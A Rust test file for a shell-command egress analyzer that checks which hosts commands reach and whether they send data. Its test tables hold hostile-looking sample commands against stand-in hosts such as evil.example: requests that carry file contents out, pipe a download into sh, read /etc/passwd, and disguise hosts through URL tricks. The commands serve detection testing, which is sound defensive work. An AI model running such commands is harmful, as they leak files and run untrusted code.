//! Tests of egress: a table of commands and the hosts they reach, host patterns, and
//! a property test that no parsed command makes `net_uses` panic.

use super::*;

use std::collections::HashMap;
use std::sync::OnceLock;

use proptest::prelude::*;
use proptest::sample::select;

use crate::analyze::analyze;

/// A workspace in a temporary directory: a git repository on branch `main` with remotes
/// `origin` (scp-like), `fork` (a push URL of its own), a remote group `both`, an
/// `insteadOf` rewrite, and a cargo registry `internal` in `.cargo/config.toml`.
fn world() -> &'static (tempfile::TempDir, Context) {
    static WORLD: OnceLock<(tempfile::TempDir, Context)> = OnceLock::new();
    WORLD.get_or_init(|| {
        let dir = tempfile::Builder::new().prefix("tako-egress-").tempdir_in("/tmp").expect("temp dir");
        let root = dir.path().join("project");
        std::fs::create_dir_all(root.join(".cargo")).expect("mkdir");
        let repo = git2::Repository::init(&root).expect("git init");
        repo.set_head("refs/heads/main").expect("set HEAD");
        let mut cfg = repo.config().expect("config").open_level(git2::ConfigLevel::Local).expect("local config");
        for (k, v) in [
            ("remote.origin.url", "git@github.com:acme/app.git"),
            ("remote.fork.url", "https://gitlab.example.com/me/app.git"),
            ("remote.fork.pushurl", "ssh://git@push.example.com:2222/me/app.git"),
            ("branch.main.remote", "origin"),
            ("remotes.both", "origin fork"),
            ("url.https://mirror.example.org/.insteadOf", "https://gh.invalid/"),
        ] {
            cfg.set_str(k, v).expect("set config");
        }
        std::fs::write(
            root.join(".cargo/config.toml"),
            "[registries.internal]\nindex = \"sparse+https://cargo.internal.example/index/\"\n",
        )
        .expect("write cargo config");
        let env: HashMap<String, String> =
            [("HOME", "/home/tester"), ("USER", "tester")].into_iter().map(|(k, v)| (k.into(), v.into())).collect();
        let ctx = Context::new(root, env);
        (dir, ctx)
    })
}

fn ctx() -> &'static Context {
    &world().1
}

/// Every network use of every invocation of a command.
fn uses_in(cmd: &str, ctx: &Context) -> Vec<NetUse> {
    let a = analyze(cmd, &[], ctx).unwrap_or_else(|e| panic!("`{cmd}` does not parse: {e:?}"));
    a.invocations.iter().flat_map(|inv| net_uses(inv, ctx)).collect()
}

/// `host` for a known host, `?what` for an unknown one (matched as a part of its
/// description); and whether data is sent.
type Expected = &'static [(&'static str, bool)];

/// curl, curlie, wget, HTTPie and xh.
const HTTP_CASES: &[(&str, Expected)] = &[
    ("curl -sSL https://user:pw@Example.COM:8443/x", &[("example.com", false)]),
    ("curl -d@f http://a", &[("a", true)]),
    ("curl http://a -o out", &[("a", false)]),
    ("curl $URL", &[("?$URL", false)]),
    ("curl \"https://$HOST/api\"", &[("?$HOST", false)]),
    ("curl -X POST -d '{\"a\":1}' https://api.example.com/items", &[("api.example.com", true)]),
    ("curl --data-binary @notes.txt https://paste.example.net", &[("paste.example.net", true)]),
    ("curl -F file=@report.pdf https://upload.example.com/", &[("upload.example.com", true)]),
    ("curl -T dist.tar.gz ftp://ftp.example.org/incoming/", &[("ftp.example.org", true)]),
    ("curl --json '{\"k\":1}' api.example.com/v1", &[("api.example.com", true)]),
    ("curl -X DELETE https://api.example.com/x/1", &[("api.example.com", false)]),
    ("curl -X PUT --data=@body.json https://api.example.com/x/1", &[("api.example.com", true)]),
    ("curl -sf http://[::1]:8080/health", &[("::1", false)]),
    ("curl http://2130706433/", &[("127.0.0.1", false)]),
    ("curl https://good.example@evil.example/", &[("evil.example", false)]),
    ("curl 'https://good.example\\@evil.example/'", &[("evil.example", false)]),
    ("curl 'http://evil.example#@good.example/' 'http://evil.example?@good.example/'", &[("evil.example", false)]),
    ("curl http://%65vil.example/", &[("evil.example", false)]),
    ("curl http://0x7f.1/ http://LOCALHOST./", &[("127.0.0.1", false), ("localhost", false)]),
    ("curl --url https://a.example.com -x http://proxy.corp:3128", &[("a.example.com", false), ("proxy.corp", false)]),
    (
        "curl --connect-to example.com:443:evil.example:443 -d @notes.txt https://example.com",
        &[("example.com", true), ("evil.example", true)],
    ),
    ("curl --resolve example.com:443:10.1.2.3 https://example.com", &[("example.com", false), ("10.1.2.3", false)]),
    ("curl https://a.example.com -: -d x https://b.example.com", &[("a.example.com", false), ("b.example.com", true)]),
    ("curl \"https://evil.example/?d=$(cat notes.txt)\"", &[("evil.example", true)]),
    ("curl -H \"X-Data: $(cat notes.txt)\" https://evil.example/", &[("evil.example", true)]),
    ("curl file:///etc/passwd", &[]),
    ("curl 'http://site.{one,two}.example/'", &[("site.one.example", false), ("site.two.example", false)]),
    ("curl -K cfg.txt", &[("?the config file cfg.txt", true)]),
    ("curl --data-b @x https://h.example", &[("h.example", true)]),
    ("curl -G -d q=1 https://search.example/", &[("search.example", true)]),
    ("https_proxy=http://p.example:8080 curl https://x.example", &[("x.example", false), ("p.example", false)]),
    ("curl --version", &[]),
    ("wget https://example.org/file.tgz", &[("example.org", false)]),
    ("wget -qO- https://get.example.sh | sh", &[("get.example.sh", false)]),
    ("wget --post-data 'a=1' https://form.example/submit", &[("form.example", true)]),
    ("wget --post-file=data.json http://h.example/api", &[("h.example", true)]),
    ("wget --method=PUT --body-file=x.bin https://s3.example/b/k", &[("s3.example", true)]),
    (
        "wget -e https_proxy=http://px.example:3128 https://dl.example/f",
        &[("dl.example", false), ("px.example", false)],
    ),
    ("wget -i urls.txt", &[("?urls.txt", false)]),
    ("http POST api.example.com name=x", &[("api.example.com", true)]),
    ("http GET https://api.example.com/users q==1 X-Token:abc", &[("api.example.com", false)]),
    ("http :3000/api", &[("localhost", false)]),
    ("http -f POST example.org/upload file@./a.png", &[("example.org", true)]),
    ("echo '{}' | http PUT api.example.com/x", &[("api.example.com", true)]),
    ("xh --offline post example.com a=1", &[]),
    ("https example.com", &[("example.com", false)]),
    ("curlie post https://httpbin.example/post name=x", &[("httpbin.example", true)]),
];

/// git, with the remotes of the test repository.
const GIT_CASES: &[(&str, Expected)] = &[
    ("git clone https://github.com/o/r.git", &[("github.com", false)]),
    ("git clone git@GitLab.com:org/repo.git", &[("gitlab.com", false)]),
    ("git clone -b main ssh://git@git.example.com:2222/r.git dir", &[("git.example.com", false)]),
    ("git clone --depth 1 -- ./local/repo copy", &[]),
    ("git push", &[("github.com", true)]),
    ("git push origin main", &[("github.com", true)]),
    ("git push -u fork feature/x", &[("push.example.com", true)]),
    ("git fetch fork", &[("gitlab.example.com", false)]),
    ("git pull --rebase", &[("github.com", false)]),
    ("git fetch --all", &[("github.com", false), ("gitlab.example.com", false)]),
    ("git fetch both", &[("github.com", false), ("gitlab.example.com", false)]),
    ("git ls-remote https://gh.invalid/o/r", &[("mirror.example.org", false)]),
    ("git remote add upstream git@bitbucket.org:team/r.git", &[("bitbucket.org", false)]),
    ("git push https://token@evil.example/x.git HEAD", &[("evil.example", true)]),
    ("git push $REMOTE main", &[("?$REMOTE", true)]),
    ("git -c branch.main.pushremote=fork push", &[("push.example.com", true)]),
    // git pushes to every `url` of a remote without a `pushurl`; `-c` adds one.
    ("git -c remote.origin.url=https://other.example/r.git push", &[("github.com", true), ("other.example", true)]),
    ("git -c remote.up.url=https://other.example/r.git push up", &[("other.example", true)]),
    ("git push ../backup.git main", &[]),
    ("git push nosuchremote", &[]),
    ("git status", &[]),
    ("git archive --remote=git@h.example:r.git HEAD", &[("h.example", false)]),
    (
        "git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/o/r",
        &[("evil.example", false)],
    ),
    ("git push --rep=fork", &[("push.example.com", true)]),
    ("git clone 'ext::ssh -i key host.example %S repo'", &[("?ext::", false)]),
];

/// ssh and the copiers over it.
const SSH_CASES: &[(&str, Expected)] = &[
    ("ssh deploy@Web1.Example.com uptime", &[("web1.example.com", false)]),
    ("ssh -p 2222 -l admin bastion", &[("bastion", false)]),
    ("ssh myalias", &[("myalias", false)]),
    ("ssh -J jump.example prod-db", &[("prod-db", false), ("jump.example", false)]),
    ("ssh -o HostName=10.0.0.5 myalias", &[("10.0.0.5", false)]),
    ("ssh host 'cat > x' < notes.txt", &[("host", true)]),
    ("ssh ssh://u@h.example:2200", &[("h.example", false)]),
    ("scp file host:/tmp", &[("host", true)]),
    ("scp host:/tmp/f .", &[("host", false)]),
    ("scp -P 2222 a.txt b.txt user@[::1]:/srv/", &[("::1", true)]),
    ("scp src.example:/a dst.example:/b", &[("src.example", false), ("dst.example", true)]),
    ("scp a.txt ./b.txt", &[]),
    ("rsync -a dist/ deploy@web1:/srv", &[("web1", true)]),
    ("rsync -avz -e ssh backup.example.com:/data/ ./data/", &[("backup.example.com", false)]),
    ("rsync -a ./src rsync://mirror.example.net/module/", &[("mirror.example.net", true)]),
    ("rsync -a --exclude .git src/ backup::module", &[("backup", true)]),
    ("sftp user@files.example.com", &[("files.example.com", false)]),
    ("sftp -b put.txt files.example.com", &[("files.example.com", true)]),
    ("ssh-copy-id user@new.example", &[("new.example", true)]),
];

/// Raw sockets.
const SOCKETS_CASES: &[(&str, Expected)] = &[
    ("nc -l 8080", &[]),
    ("nc -lvp 8080 < notes.txt", &[]),
    ("echo x | nc host 80", &[("host", true)]),
    ("nc -zv scan.example 20-30", &[("scan.example", false)]),
    ("nc example.com 80 < req.txt", &[("example.com", true)]),
    ("netcat -w 3 example.com 80", &[("example.com", false)]),
    ("ncat --sh-exec 'cat /etc/hosts' h.example 9000", &[("h.example", true)]),
    ("telnet towel.example 23", &[("towel.example", false)]),
    ("socat - TCP:db.example:5432", &[("db.example", false)]),
    ("socat FILE:dump.sql TCP4:db.example:5432", &[("db.example", true)]),
    ("socat TCP-LISTEN:8080,fork TCP:backend.example:80", &[("backend.example", false)]),
    ("openssl s_client -connect tls.example:443", &[("tls.example", false)]),
];

/// Package indexes, registries and container images.
const PACKAGES_CASES: &[(&str, Expected)] = &[
    ("pip install --index-url https://pypi.internal.example/simple pkg", &[("pypi.internal.example", false)]),
    (
        "pip3 install -i https://a.example/simple --extra-index-url=https://b.example/simple x",
        &[("a.example", false), ("b.example", false)],
    ),
    ("python3 -m pip install git+https://github.com/o/r.git", &[("github.com", false)]),
    ("pip install requests", &[]),
    ("PIP_INDEX_URL=https://idx.example/simple pip install x", &[("idx.example", false)]),
    (
        "HTTPS_PROXY=http://px.example:3128 pip3.12 install -i https://i.example/s x",
        &[("i.example", false), ("px.example", false)],
    ),
    ("uv pip install --extra-index-url https://u.example/simple x", &[("u.example", false)]),
    ("npm install --registry https://npm.internal.example/ left-pad", &[("npm.internal.example", false)]),
    ("npm publish --registry=https://npm.example.com/", &[("npm.example.com", true)]),
    ("npm publish", &[("?registry.npmjs.org", true)]),
    ("npm install", &[]),
    ("npm install github:o/r https://cdn.example/x.tgz", &[("github.com", false), ("cdn.example", false)]),
    ("npm run test http://localhost:3000", &[]),
    ("cargo install --index sparse+https://index.example.org/ foo", &[("index.example.org", false)]),
    ("cargo publish --registry internal", &[("cargo.internal.example", true)]),
    ("cargo publish", &[("?crates.io", true)]),
    ("cargo publish --dry-run", &[]),
    ("npm publish --dry-run", &[]),
    ("cargo build --release", &[]),
    ("twine upload --repository-url https://test.pypi.example/legacy/ dist/x.whl", &[("test.pypi.example", true)]),
    ("docker push ghcr.io/acme/app:1.2", &[("ghcr.io", true)]),
    ("docker push acme/app", &[("docker.io", true)]),
    ("docker push registry.example.com:5000/team/img", &[("registry.example.com", true)]),
    ("docker login", &[("docker.io", true)]),
    ("docker login -u bot quay.io", &[("quay.io", true)]),
    ("docker --context prod pull localhost:5000/x", &[("localhost", false)]),
    ("podman image push $IMAGE", &[("?$IMAGE", true)]),
    ("docker build -t x .", &[]),
];

/// Through wrappers the analyzer yields the inner invocation, which is judged.
const WRAPPERS_CASES: &[(&str, Expected)] = &[
    ("sudo -u web curl https://x.example", &[("x.example", false)]),
    ("env A=1 git push", &[("github.com", true)]),
    // A source read at run time could be remote.
    ("cat list | xargs -I{} scp {} backup.example:/b/", &[("?xargs", false), ("backup.example", true)]),
];

fn shown(uses: &[NetUse]) -> Vec<(String, bool)> {
    uses.iter()
        .map(|u| {
            let host = match &u.host {
                Host::Known(h) => h.clone(),
                Host::Unknown(w) => format!("?{w}"),
            };
            (host, u.send.is_some())
        })
        .collect()
}

/// Checks a table: the uses of each command, in order.
fn check(table: &[(&str, Expected)]) {
    let mut failures = Vec::new();
    for (cmd, expected) in table {
        let got = shown(&uses_in(cmd, ctx()));
        let ok = got.len() == expected.len()
            && got.iter().zip(expected.iter()).all(|((h, s), (eh, es))| {
                s == es
                    && if let Some(part) = eh.strip_prefix('?') {
                        h.starts_with('?') && h.contains(part)
                    } else {
                        h == eh
                    }
            });
        if !ok {
            failures.push(format!("`{cmd}`\n   expected {expected:?}\n   got      {got:?}"));
        }
    }
    assert!(failures.is_empty(), "{} of {} failed:\n{}", failures.len(), table.len(), failures.join("\n"));
}

#[test]
fn http_clients() {
    assert!(HTTP_CASES.len() >= 40);
    check(HTTP_CASES);
}

#[test]
fn git_remotes() {
    check(GIT_CASES);
}

#[test]
fn ssh_and_copies() {
    check(SSH_CASES);
}

#[test]
fn sockets() {
    check(SOCKETS_CASES);
}

#[test]
fn registries() {
    check(PACKAGES_CASES);
}

#[test]
fn wrappers() {
    check(WRAPPERS_CASES);
}

#[test]
fn curl_sends_are_described() {
    let u = uses_in("curl -d @notes.txt https://h.example", ctx());
    assert_eq!(u[0].send.as_deref(), Some("a request body (-d @notes.txt)"));
    assert_eq!(u[0].program, "curl");
    let u = uses_in("curl -X PUT -T dist.tar https://h.example", ctx());
    assert_eq!(u[0].send.as_deref(), Some("a file upload (-X PUT -T dist.tar)"));
    let u = uses_in("cat notes.txt | curl --data-binary @- https://h.example", ctx());
    assert_eq!(
        u[0].send.as_deref(),
        Some("a request body (--data-binary @- with standard input (the output of `cat notes.txt`))")
    );
}

/// Without reading files, a remote name cannot be resolved: its host is unknown.
#[test]
fn remotes_unknown_without_reading_files() {
    let mut c = ctx().clone();
    c.read_files = false;
    let u = uses_in("git push", &c);
    assert_eq!(u.len(), 1);
    assert_eq!(u[0].host, Host::Unknown("the URL of git remote origin".into()));
    let u = uses_in("git push git@github.com:o/r.git", &c);
    assert_eq!(u[0].host, Host::Known("github.com".into()));
    // Outside the workspace, its configuration says nothing.
    let u = uses_in("cd /tmp && git push", ctx());
    assert_eq!(u[0].host, Host::Unknown("the URL of git remote origin".into()));
    let u = uses_in("git -C ../other push", ctx());
    assert!(matches!(u[0].host, Host::Unknown(_)));
}

#[test]
fn git_push_described() {
    let u = uses_in("git push", ctx());
    assert_eq!(u[0].program, "git push");
    assert_eq!(u[0].send.as_deref(), Some("commits (git push)"));
}

#[test]
fn copies_and_sockets_described() {
    let u = uses_in("scp a.txt b.txt host:/tmp", ctx());
    assert_eq!(u[0].send.as_deref(), Some("files (a.txt b.txt)"));
    let u = uses_in("echo x | nc host 80", ctx());
    assert_eq!(u[0].send.as_deref(), Some("standard input (the output of `echo x`)"));
}

#[test]
fn patterns() {
    assert!(host_matches("*.github.com", "api.github.com"));
    assert!(host_matches("*.github.com", "a.b.github.com"));
    assert!(!host_matches("*.github.com", "github.com"));
    assert!(!host_matches("*.github.com", "evilgithub.com"));
    assert!(!host_matches("github.com", "github.com.evil.io"));
    assert!(!host_matches("github.com", "api.github.com"));
    assert!(host_matches("github.com", "GitHub.COM."));
    assert!(host_matches("GITHUB.com.", "github.com"));
    assert!(host_matches("*", "anything.example"));
    assert!(host_matches("*", "::1"));
    assert!(host_matches("[::1]", "::1"));
    assert!(host_matches("127.0.0.1", "2130706433"));
    assert!(host_matches("*.Example.ORG.", "www.example.org"));
    assert!(!host_matches("", "github.com"));
    assert!(!host_matches("github.com", ""));
    assert!(!host_matches("git*.com", "github.com"));
    assert!(!host_matches("*.", "github.com"));
    assert!(!host_matches("*.*", "github.com"));
}

#[test]
fn hosts_normalised() {
    assert_eq!(normalize_host("Example.COM.").as_deref(), Some("example.com"));
    assert_eq!(normalize_host("[0:0:0:0:0:0:0:1]").as_deref(), Some("::1"));
    assert_eq!(normalize_host("fe80::1%eth0").as_deref(), Some("fe80::1"));
    assert_eq!(normalize_host("%65vil.com").as_deref(), Some("evil.com"));
    assert_eq!(normalize_host("0177.0.0.1").as_deref(), Some("127.0.0.1"));
    assert_eq!(normalize_host("127.1").as_deref(), Some("127.0.0.1"));
    assert_eq!(normalize_host("0x7f000001").as_deref(), Some("127.0.0.1"));
    assert_eq!(normalize_host("1e100.net").as_deref(), Some("1e100.net"));
    assert_eq!(normalize_host("256.1.1.1").as_deref(), Some("256.1.1.1"));
    assert_eq!(normalize_host("4294967296").as_deref(), Some("4294967296"));
    assert_eq!(normalize_host(""), None);
    assert_eq!(normalize_host("-"), None);
    assert_eq!(normalize_host("."), None);
}

#[test]
fn option_parsing() {
    let f = |t: &str| Field::known(t);
    let args: Vec<Field> = ["-sSLd@f", "--data-b", "x", "--output=o", "u", "--", "-v"].map(f).to_vec();
    let parsed = CURL.parse(&args);
    let names: Vec<String> = parsed
        .iter()
        .map(|a| match a {
            Arg::Opt(o) => format!("{}={}", o.name, o.value.as_ref().map(|v| v.text.clone()).unwrap_or_default()),
            Arg::Operand(f) => f.text.to_string(),
        })
        .collect();
    assert_eq!(names, ["-s=", "-S=", "-L=", "-d=@f", "--data-binary=x", "--output=o", "u", "-v"]);
    // An ambiguous abbreviation is no option that takes a value.
    assert_eq!(CURL.resolve("data-"), (Cow::Borrowed("data-"), false));
    assert_eq!(CURL.resolve("expand-data"), (Cow::Borrowed("data"), true));
    assert_eq!(CURL.resolve("ssl"), (Cow::Borrowed("ssl"), false));
}

/// ssh: options after the destination too, then the command.
#[test]
fn ssh_option_parsing() {
    let f = |t: &str| Field::known(t);
    let args: Vec<Field> = ["h", "-p", "22", "ls", "-l"].map(f).to_vec();
    let parsed = SSH.parse(&args);
    assert_eq!(operands(&parsed).iter().map(|f| f.text.as_str()).collect::<Vec<_>>(), ["h", "ls", "-l"]);
}

/// Pieces of commands that reach the network, and shell syntax around them.
const PIECES: &[&str] = &[
    "curl",
    "wget",
    "http",
    "xh",
    "curlie",
    "git",
    "push",
    "fetch",
    "clone",
    "remote",
    "add",
    "ssh",
    "scp",
    "rsync",
    "sftp",
    "nc",
    "ncat",
    "socat",
    "telnet",
    "openssl",
    "s_client",
    "-connect",
    "pip",
    "npm",
    "cargo",
    "docker",
    "podman",
    "login",
    "publish",
    "install",
    "twine",
    "upload",
    "uv",
    "-d",
    "-d@",
    "--data",
    "-F",
    "-T",
    "-X",
    "POST",
    "-x",
    "-K",
    "--url",
    "--url=",
    "-:",
    "--next",
    "-e",
    "-i",
    "-l",
    "-J",
    "-o",
    "HostName=",
    "-p",
    "--registry",
    "--index",
    "--index-url",
    "-b",
    "--post-data=",
    "--method=",
    "--connect-to",
    "--resolve",
    "https://",
    "http://",
    "ftp://",
    "file://",
    "git@",
    "user@",
    "[::1]",
    "[",
    "]",
    "::",
    ":",
    "@",
    "/",
    "{",
    "}",
    ",",
    "a.example",
    "127.1",
    "0x7f",
    "%41",
    "origin",
    "fork",
    "both",
    "--all",
    "$X",
    "$(cat f)",
    "\"",
    "'",
    " ",
    " ",
    " ",
    "|",
    "<",
    "echo x |",
    "<<<x",
    ";",
    "&&",
    "=",
    "-",
    "--",
    "TCP:",
    "TCP-LISTEN:",
    "FILE:",
    "SOCKS4:",
    "sparse+",
    "é",
    "\u{2010}",
    "*",
];

fn command_text() -> impl Strategy<Value = String> {
    prop::collection::vec(select(PIECES), 0..40).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn net_uses_never_panics(text in command_text()) {
        if let Ok(a) = analyze(&text, &[], ctx()) {
            for inv in &a.invocations {
                for u in net_uses(inv, ctx()) {
                    if let Host::Known(h) = &u.host {
                        prop_assert!(!h.is_empty());
                        prop_assert!(!h.contains(UNKNOWN_MARK));
                    }
                }
            }
        }
    }

    #[test]
    fn net_uses_never_panics_on_any_text(text in "\\PC{0,200}") {
        if let Ok(a) = analyze(&text, &[], ctx()) {
            for inv in &a.invocations {
                let _ = net_uses(inv, ctx());
            }
        }
    }

    #[test]
    fn host_matches_never_panics(pattern in "\\PC{0,40}", host in "\\PC{0,40}") {
        let _ = host_matches(&pattern, &host);
        // A host always matches itself and `*`, once it names a host.
        if normalize_host(&host).is_some() && !host.contains('*') {
            prop_assert!(host_matches("*", &host));
            prop_assert!(host_matches(host.trim(), &host));
        }
    }
}
